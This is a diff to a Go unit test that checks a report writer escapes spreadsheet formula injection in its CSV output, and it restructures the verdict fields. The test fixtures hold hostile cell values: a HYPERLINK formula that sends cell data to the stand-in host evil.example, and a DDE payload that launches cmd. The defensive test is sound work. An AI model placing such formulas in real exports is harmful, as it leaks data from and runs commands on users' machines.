@@ -34,12 +34,12 @@ func TestCSVFormulaInjection(t *testing.T) {
 	when := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
 	rep := &Report{
 		Accounts: []AccountReport{
-			{Account: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Requests: 3, First: when, Last: when, Risk: 0.9, Action: "suspend", Cluster: 1,
+			{Account: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Requests: 3, First: when, Last: when, Verdict: Verdict{Risk: 0.9, Action: "suspend"}, Cluster: 1,
 				Indicators: []Indicator{{Name: IndTiming, Value: -0.25}}},
-			{Account: "@SUM(1+1)*cmd|' /C calc'!A0", Requests: 2, First: when, Last: when, Action: "none", Cluster: 1},
-			{Account: "plain-user", Requests: 1, First: when, Last: when, Action: "none"},
+			{Account: "@SUM(1+1)*cmd|' /C calc'!A0", Requests: 2, First: when, Last: when, Verdict: Verdict{Action: "none"}, Cluster: 1},
+			{Account: "plain-user", Requests: 1, First: when, Last: when, Verdict: Verdict{Action: "none"}},
 		},
-		Clusters: []ClusterReport{{ID: 1, Accounts: []string{"-1+1", "@x"}, Links: []string{"+x–@y: content"}, Requests: 5, Risk: 0.9, Action: "suspend"}},
+		Clusters: []ClusterReport{{ID: 1, Accounts: []string{"-1+1", "@x"}, Links: []string{"+x–@y: content"}, Requests: 5, Verdict: Verdict{Score: -2.5, Action: "suspend"}}},
 	}
 	dir := t.TempDir()
 	if err := WriteOutputs(rep, dir); err != nil {
@@ -62,14 +62,18 @@ func TestCSVFormulaInjection(t *testing.T) {
 		t.Errorf("requests cell %q", got)
 	}
 	clusters := readCSV(t, filepath.Join(dir, "clusters.csv"))
-	if got := clusters[1][3]; got != "'-1+1 @x" {
+	ccol := map[string]int{}
+	for i, h := range clusters[0] {
+		ccol[h] = i
+	}
+	if got := clusters[1][ccol["accounts"]]; got != "'-1+1 @x" {
 		t.Errorf("cluster accounts cell %q", got)
 	}
-	if got := clusters[1][6]; got != "'+x–@y: content" {
+	if got := clusters[1][ccol["links"]]; got != "'+x–@y: content" {
 		t.Errorf("cluster links cell %q", got)
 	}
-	if got := clusters[1][1]; got != "0.900" {
-		t.Errorf("cluster risk cell %q", got)
+	if got := clusters[1][ccol["score"]]; got != "-2.5" {
+		t.Errorf("cluster score cell %q: a negative number we wrote must stay a number", got)
 	}
 }
 
